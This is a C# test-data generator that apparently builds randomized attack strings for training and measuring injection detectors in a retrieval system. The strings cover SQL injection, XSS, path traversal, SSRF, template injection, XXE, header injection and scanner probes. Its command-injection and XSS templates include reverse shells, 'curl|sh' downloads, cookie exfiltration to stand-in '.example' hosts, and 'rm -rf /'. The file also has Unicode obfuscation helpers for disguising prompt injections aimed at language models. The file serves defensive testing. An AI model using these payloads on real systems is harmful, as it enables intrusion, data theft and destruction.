using System.Text;

namespace Rag.Testing;

/// <summary>An attack, and where it stands.</summary>
/// <param name="Class">After the classes of the OWASP Core Rule Set, and of attacks on language models.</param>
/// <param name="Where"><c>query</c>: a value of an address, encoded; <c>path</c>: an address; <c>header</c>: a header's value; <c>agent</c>: the name of a program; <c>question</c>; <c>document</c>.</param>
public sealed record AttackCase(string Class, string Where, string Text);

/// <summary>
/// Attacks made from grammars: forms with random names, numbers, hosts, words and disguises in them. The forms are in two halves.
/// Detectors may be made to see the first; the second is held out, and only looked at to measure.
/// </summary>
public sealed partial class AttackCases(int seed, bool heldOut)
{
    private readonly Random _random = new(seed);

    /// <summary>So many of every class.</summary>
    public IReadOnlyList<AttackCase> Make(int perClass) => [.. Classes.SelectMany(c => Enumerable.Range(0, perClass).Select(_ => Make(c.Name, c.Where, Pick(heldOut ? c.HeldOut : c.Open)())))];

    private AttackCase Make(string name, string[] where, string text)
    {
        string place = Pick(where);
        return new(name, place, place switch
        {
            "query" => Encoded(text),
            "path" => "/" + text,
            _ => text,
        });
    }

    private (string Name, string[] Where, Func<string>[] Open, Func<string>[] HeldOut)[] Classes =>
    [
        ("sql injection", ["query", "question"], SqlOpen, SqlHeldOut),
        ("cross-site scripting", ["query", "question"], XssOpen, XssHeldOut),
        ("path traversal", ["query"], PathOpen, PathHeldOut),
        ("remote inclusion", ["query"], RemoteOpen, RemoteHeldOut),
        ("command injection", ["query", "question"], CommandOpen, CommandHeldOut),
        ("template injection", ["query", "question", "header"], TemplateOpen, TemplateHeldOut),
        ("xml entities", ["query", "question"], XmlOpen, XmlHeldOut),
        ("ldap and document queries", ["query"], QueryOpen, QueryHeldOut),
        ("header injection", ["query"], HeaderOpen, HeaderHeldOut),
        ("scanner by name", ["agent"], AgentOpen, AgentHeldOut),
        ("scanner by address", ["path"], ProbeOpen, ProbeHeldOut),
        ("prompt injection", ["question"], PromptOpen, PromptHeldOut),
        ("prompt injection in disguise", ["question"], DisguiseOpen, DisguiseHeldOut),
        ("prompt injection in other languages", ["question"], ForeignOpen, ForeignHeldOut),
        ("orders in a document", ["document"], DocumentOpen, DocumentHeldOut),
    ];

    // SQL

    private Func<string>[] SqlOpen =>
    [
        () => $"{Word()}{Q()} {Or()} {N()}={Same()} {End()}",
        () => $"{N()} {Or()} {Same()}={Same()}",
        () => $"{Q()}{Gap()}union{Gap()}select{Gap()}{Columns()}{Gap()}from{Gap()}{Word()}{End()}",
        () => $"{N()} union all select {Columns()}--",
        () => $"{Word()}'; drop table {Word()};--",
        () => $"{N()}; delete from {Word()} where 1=1",
        () => $"{Word()}'{Gap()}and{Gap()}sleep({Small()})--",
        () => $"{N()}) or pg_sleep({Small()})--",
        () => $"admin'{Pick("--", "#", "/*")}",
        () => $"{Q()} or '{Word()}'='{_last}",
        () => $"{N()}' and extractvalue(1,concat(0x7e,(select @@version)))-- -",
        () => $"{N()} and (select count(*) from information_schema.tables)>{Small()}",
        () => $"{N()}'; exec xp_cmdshell('{Word()}')--",
        () => $"{Word()}' and '{N()}'='{Same()}",
    ];

    private Func<string>[] SqlHeldOut =>
    [
        () => $"{Word()}%' or {N()} like {Same()} -- ",
        () => $"-{N()}' UniOn/**/SeLect/**/{Columns()}/**/frOm/**/{Word()}-- -",
        () => $"{N()}'));waitfor delay '0:0:{Small()}'--",
        () => $"{N()} or not {Same()}={N()}2 or ({N()})=({Same()})",
        () => $"{Word()}'||(select password from users where rownum=1)||'",
        () => $"{N()}') or ('{Word()}')=('{_last}",
        () => $"{N()} and ascii(substring((select table_name from information_schema.tables limit 1),{Small()},1))>{N()}",
        () => $"{Word()}\" or true -- ",
        () => $"{N()}; update {Word()} set {Word()}='{Word()}' where id={Small()}",
        () => $"{N()} order by {Small()}-- -",
        () => $"{N()}' and (select {N()} from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)-- ",
        () => $"'; insert into {Word()} values ({N()}, '{Word()}');-- ",
        () => $"{N()} /*!50000union*/ /*!50000select*/ {Columns()}",
        () => $"{Word()}' into outfile '/var/www/{Word()}.php' -- ",
    ];

    // Scripts

    private Func<string>[] XssOpen =>
    [
        () => $"<script>alert({N()})</script>",
        () => $"\"><img src={Word()} onerror=alert({N()})>",
        () => $"<svg/onload={Call()}>",
        () => $"<a href=\"javascript:{Call()}\">{Word()}</a>",
        () => $"'-{Call()}-'",
        () => $"<iframe src=\"javascript:{Call()}\"></iframe>",
        () => $"<ScRiPt src=//{Host()}/{Word()}.js></sCrIpT>",
        () => $"<body onload={Call()}>",
        () => $"<input autofocus onfocus={Call()}>",
        () => $"</title><script>{Call()}</script>",
        () => $"<img src=\"x\" onerror=\"document.location='http://{Host()}/?c='+document.cookie\">",
    ];

    private Func<string>[] XssHeldOut =>
    [
        () => $"<details open ontoggle={Call()}>{Word()}",
        () => $"<math><mtext><table><mglyph><style><img src onerror={Call()}>",
        () => $"<video><source onerror=\"{Call()}\">",
        () => $"\" autofocus onfocus=\"{Call()}\" x=\"",
        () => $"<svg><animate onbegin={Call()} attributeName=x dur=1s>",
        () => $"<a href=\"jAvAsCrIpT&colon;{Call()}\">x</a>",
        () => $"<object data=\"data:text/html;base64,{Base64($"<script>{Call()}</script>")}\"></object>",
        () => $"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{Call()}\">",
        () => $"<form><button formaction=javascript:{Call()}>{Word()}",
        () => $"';window['al'+'ert']({N()});//",
        () => $"<img src=x:{Word()} onerror=eval(atob('{Base64(Call())}'))>",
        () => $"<marquee onstart={Call()}>{Word()}</marquee>",
        () => $"<xss id=x tabindex=1 onfocusin={Call()}></xss>",
    ];

    private string Call() => Pick($"alert({N()})", $"alert(document.domain)", $"confirm`{N()}`", $"prompt(document.cookie)", $"fetch('//{Host()}/'+document.cookie)", $"eval(location.hash.slice(1))", "alert(window.origin)");

    // Paths

    private Func<string>[] PathOpen =>
    [
        () => $"{Up(3)}etc/passwd",
        () => $"{Up(5)}windows/win.ini",
        () => $"/etc/{Pick("passwd", "shadow", "hosts", "group")}",
        () => $"{Up(4)}{Word()}/{Word()}.conf",
        () => "php://filter/convert.base64-encode/resource=index",
        () => $"..\\..\\..\\{Word()}\\{Word()}.ini",
        () => $"file:///etc/{Word()}",
        () => $"{Up(2)}proc/self/environ",
        () => $"C:\\Windows\\System32\\{Word()}.dll",
    ];

    private Func<string>[] PathHeldOut =>
    [
        () => $"....//....//....//etc/{Word()}",
        () => $"..%252f..%252f..%252fetc%252fpasswd",
        () => $"%c0%ae%c0%ae/%c0%ae%c0%ae/{Word()}",
        () => $"{Word()}/../../../../{Word()}",
        () => $"..;/..;/{Word()}/web.xml",
        () => $"/proc/{N()}/cmdline",
        () => $"{Up(3)}{Word()}.php%00.jpg",
        () => $"~/.ssh/id_rsa".Replace("~", "/root", StringComparison.Ordinal),
        () => $"zip://{Word()}.jpg#{Word()}.php",
        () => $"..%5c..%5c..%5cboot.ini",
        () => $"/var/log/nginx/{Word()}.log",
        () => $"\\\\{Host()}\\c$\\{Word()}",
    ];

    private string Up(int least) => string.Concat(Enumerable.Repeat("../", least + _random.Next(5)));

    // Addresses

    private Func<string>[] RemoteOpen =>
    [
        () => "http://169.254.169.254/latest/meta-data/iam/",
        () => $"http://127.0.0.1:{N()}/{Word()}",
        () => $"gopher://127.0.0.1:6379/_{Word()}",
        () => $"http://{Host()}/{Word()}.php?cmd=id",
        () => $"dict://localhost:{N()}/info",
        () => $"http://{Word()}.oastify.com/",
        () => $"http://2130706433/{Word()}",
        () => $"http://10.0.{Small()}.{Small()}/{Word()}",
    ];

    private Func<string>[] RemoteHeldOut =>
    [
        () => $"http://[::1]:{N()}/",
        () => $"http://0x7f000001/{Word()}",
        () => $"http://metadata.google.internal/computeMetadata/v1/",
        () => $"http://0177.0.0.1/{Word()}",
        () => $"https://{Host()}/{Word()}.txt?",
        () => $"http://{Word()}@127.0.0.1/{Word()}",
        () => $"ldap://{Host()}:1389/{Word()}",
        () => $"http://192.168.{Small()}.{Small()}:{N()}/{Word()}",
        () => $"http://[::ffff:7f00:1]/{Word()}",
        () => $"http://127.0.0.1.nip.io/{Word()}",
        () => $"ftp://{Host()}/{Word()}.sh",
    ];

    // Commands

    private Func<string>[] CommandOpen =>
    [
        () => $"{Word()};cat /etc/passwd",
        () => $"{Word()}|id",
        () => $"{Word()}&&whoami",
        () => $"`curl http://{Host()}/`",
        () => $"$(wget -q http://{Host()}/{Word()})",
        () => $"{N()};ping -c {Small()} {Host()}",
        () => $"{Word()}; nc -e /bin/sh {Host()} {N()}",
        () => $"() {{ :; }}; /bin/bash -c 'cat /etc/passwd'",
        () => $"{Word()}|bash -i >& /dev/tcp/{Host()}/{N()} 0>&1",
        () => $"{Word()} || ls -la /",
    ];

    private Func<string>[] CommandHeldOut =>
    [
        () => $"{Word()};c'a't$IFS/etc/passwd",
        () => $"{Word()}\ncat${{IFS}}/etc/shadow",
        () => $"{{cat,/etc/passwd}}",
        () => $"{Word()}& type C:\\windows\\win.ini",
        () => $"{Word()};rm -rf /",
        () => $"{Word()}';sleep {Small()};'",
        () => $"$(uname -a)",
        () => $"{Word()}|powershell -enc {Base64(Word() + Word() + Word())}",
        () => $"{N()} | nslookup {Host()}",
        () => $"{Word()};python3 -c 'import os;os.system(\"id\")'",
        () => $"/???/c?t /???/p?sswd",
        () => $"{Word()}&certutil -urlcache -f http://{Host()}/{Word()}.exe",
        () => $"{Word()};curl http://{Host()}/{Word()}|sh",
    ];

    // Templates

    private Func<string>[] TemplateOpen =>
    [
        () => $"{{{{{N()}*{N()}}}}}",
        () => $"${{{N()}*{N()}}}",
        () => $"${{jndi:ldap://{Host()}/{Word()}}}",
        () => "{{config.items()}}",
        () => $"<%= {N()} * {N()} %>",
        () => "{{''.__class__.__mro__[1].__subclasses__()}}",
        () => "${T(java.lang.Runtime).getRuntime().exec('id')}",
        () => $"#{{{N()}*{N()}}}",
        () => $"${{${{lower:j}}ndi:rmi://{Host()}/{Word()}}}",
    ];

    private Func<string>[] TemplateHeldOut =>
    [
        () => $"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-l}}${{::-d}}${{::-a}}${{::-p}}://{Host()}/{Word()}}}",
        () => $"${{${{env:NaN:-j}}ndi${{env:NaN:-:}}${{env:NaN:-l}}dap${{env:NaN:-:}}//{Host()}/{Word()}}}",
        () => "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        () => "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        () => "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        () => "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        () => "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
        () => $"{{{{{N()}*'{N()}'}}}}",
        () => $"*{{{N()}*{N()}}}",
        () => "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
        () => "{{constructor.constructor('return 1')()}}",
        () => "<%= system('id') %>",
        () => $"@({N()}+{N()})",
    ];

    // XML

    private Func<string>[] XmlOpen =>
    [
        () => $"<!DOCTYPE {Word()} [<!ENTITY {Word()} SYSTEM \"file:///etc/passwd\">]><r>&{_last};</r>",
        () => $"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://{Host()}/{Word()}.dtd\">%p;]>",
        () => "<!DOCTYPE z [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;&a;&a;\">]><z>&b;</z>",
        () => $"<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/{Word()}\"/></foo>",
    ];

    private Func<string>[] XmlHeldOut =>
    [
        () => $"<!DOCTYPE {Word()} PUBLIC \"-//X//TEXT\" \"http://{Host()}/{Word()}\">",
        () => $"<!DOCTYPE r [<!ENTITY {Word()} SYSTEM \"php://filter/read=convert.base64-encode/resource=/etc/passwd\">]>",
        () => $"<!DOCTYPE r SYSTEM 'http://{Host()}/{Word()}.dtd'><r/>",
        () => "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;\"><!ENTITY lol2 \"&lol1;&lol1;&lol1;\">]>",
        () => $"<xsl:stylesheet><xsl:include href=\"http://{Host()}/{Word()}\"/></xsl:stylesheet>",
        () => $"<!ENTITY % {Word()} SYSTEM 'expect://id'>",
    ];

    // LDAP, documents

    private Func<string>[] QueryOpen =>
    [
        () => $"*)(uid=*))(|(uid=*",
        () => $"{Word()})(|(password=*))",
        () => "{\"$ne\": null}",
        () => "{\"$gt\": \"\"}",
        () => $"{Word()}' || '1'=='1",
        () => "';return true;var x='",
    ];

    private Func<string>[] QueryHeldOut =>
    [
        () => $"{Word()})(&)",
        () => $"*)(objectClass=*",
        () => $"{{\"$where\": \"this.{Word()} == '{Word()}'\"}}",
        () => $"{{\"{Word()}\": {{\"$regex\": \".*\"}}}}",
        () => $"{Word()}'; while(true){{}}; var y='",
        () => $"'] | //{Word()} | a['",
        () => $"{Word()}' or count(/child::node())={Small()} or 'a'='b",
        () => $"{Word()}*)((|{Word()}=*)",
    ];

    // Headers

    private Func<string>[] HeaderOpen =>
    [
        () => $"{Word()}\r\nSet-Cookie: {Word()}={Word()}",
        () => $"{Word()}\r\nLocation: http://{Host()}/",
        () => $"{Word()}\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>",
        () => $"{Word()}\r\nGET /{Word()} HTTP/1.1\r\nHost: {Host()}",
    ];

    private Func<string>[] HeaderHeldOut =>
    [
        () => $"{Word()}\nX-{Word()}: {N()}",
        () => $"{Word()}\r\n{Word()}: {Word()}\r\n\r\n<svg onload=alert({N()})>",
        () => $"{Word()}\u560D\u560ASet-Cookie: {Word()}={N()}",
        () => $"0\r\n\r\nPOST /{Word()} HTTP/1.1\r\nContent-Length: {N()}",
        () => $"{Word()}%0d%0aContent-Length:%20{N()}",
        () => $"{Word()}\rRefresh: 0; url=http://{Host()}",
    ];

    // Scanners

    private Func<string>[] AgentOpen => [() => $"sqlmap/1.{N()}#stable (https://sqlmap.org)", () => "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", () => $"gobuster/3.{Small()}", () => $"Mozilla/5.00 (Nikto/2.{Small()})"];

    private Func<string>[] AgentHeldOut => [() => $"feroxbuster/2.{Small()}.0", () => "Mozilla/5.0 - Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", () => $"masscan/1.{Small()}", () => "Wfuzz/3.1.0", () => "WPScan v3.8 (https://wpscan.com/)", () => "Arachni/v1.5", () => $"zgrab/0.x", () => "Acunetix-Product (WVS)"];

    private Func<string>[] ProbeOpen => [() => ".env", () => "wp-login.php", () => ".git/config", () => "phpmyadmin/index.php", () => $"{Word()}.php", () => "cgi-bin/test.cgi", () => "actuator/env"];

    private Func<string>[] ProbeHeldOut => [() => $"{Word()}/.git/HEAD", () => "manager/html", () => $"{Word()}.aspx", () => "solr/admin/info/system", () => "backup.sql", () => ".aws/credentials", () => "vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", () => "server-status", () => $"{Word()}.jsp", () => "_ignition/execute-solution", () => $"{Word()}.bak", () => "HNAP1/", () => "owa/auth/logon.aspx"];

    // Parts

    private static readonly string[] Syllables = ["ba", "co", "di", "fe", "gu", "ka", "lo", "mi", "ne", "po", "ra", "si", "tu", "ve", "zo"];

    private string _last = "", _number = "1";

    private string Word() => _last = string.Concat(Enumerable.Range(0, 2 + _random.Next(2)).Select(_ => Pick(Syllables)));

    private string Host() => $"{string.Concat(Enumerable.Range(0, 3).Select(_ => Pick(Syllables)))}.example";

    private string N() => _number = (1 + _random.Next(9_999)).ToString(System.Globalization.CultureInfo.InvariantCulture);

    /// <summary>The number that was last.</summary>
    private string Same() => _number;

    private string Small() => (1 + _random.Next(9)).ToString(System.Globalization.CultureInfo.InvariantCulture);

    private string Q() => Pick("'", "\"", "')", "'))");

    private string Or() => Pick("or", "OR", "Or", "||");

    private string End() => Pick("--", "#", "-- -", "/*", "");

    private string Gap() => Pick(" ", "  ", "/**/", "\t");

    private string Columns() => string.Join(',', Enumerable.Range(0, 2 + _random.Next(6)).Select(_ => Pick("null", N(), "@@version", "user()", "password")));

    private string Encoded(string text) => _random.Next(5) switch
    {
        0 => Uri.EscapeDataString(Uri.EscapeDataString(text)),
        1 => string.Concat(Encoding.UTF8.GetBytes(text).Select(b => $"%{b:x2}")),
        _ => Uri.EscapeDataString(text),
    };

    private static string Base64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

    private static string Hex(string text) => Convert.ToHexStringLower(Encoding.UTF8.GetBytes(text));

    private static string Leet(string text) => string.Concat(text.Select(c => c switch { 'o' => '0', 'i' => '1', 'e' => '3', 'a' => '4', 's' => '5', 't' => '7', _ => c }));

    private string Zero(string text) => string.Concat(text.Select(c => _random.Next(3) == 0 ? $"{c}{Pick("\u200B", "\u200C", "\u2060", "\u00AD")}" : c.ToString()));

    private static string Cyrillic(string text) => string.Concat(text.Select(c => c switch { 'a' => 'а', 'e' => 'е', 'o' => 'о', 'p' => 'р', 'c' => 'с', 'i' => 'і', _ => c }));

    private static string Wide(string text) => string.Concat(text.Select(c => c is > ' ' and <= '~' ? (char)(c + 0xFEE0) : c));

    private static string Bold(string text) => string.Concat(text.Select(c => c is >= 'a' and <= 'z' ? char.ConvertFromUtf32(0x1D41A + c - 'a') : c is >= 'A' and <= 'Z' ? char.ConvertFromUtf32(0x1D400 + c - 'A') : c.ToString()));

    private static string Tags(string text) => string.Concat(text.Where(c => c is >= ' ' and <= '~').Select(c => char.ConvertFromUtf32(0xE0000 + c)));

    /// <summary>Bits as two marks that are not seen.</summary>
    private static string Hidden(string text) => string.Concat(Encoding.UTF8.GetBytes(text).SelectMany(b => Enumerable.Range(0, 8).Select(i => (b >> i & 1) == 1 ? "\u200B" : "\u200C")));

    private static string Rot13(string text) => string.Concat(text.Select(c => char.IsAsciiLetterLower(c) ? (char)('a' + (c - 'a' + 13) % 26) : char.IsAsciiLetterUpper(c) ? (char)('A' + (c - 'A' + 13) % 26) : c));

    private static string Reversed(string text)
    {
        char[] chars = text.ToCharArray();
        Array.Reverse(chars);
        return new(chars);
    }

    private T Pick<T>(params T[] from) => from[_random.Next(from.Length)];
}
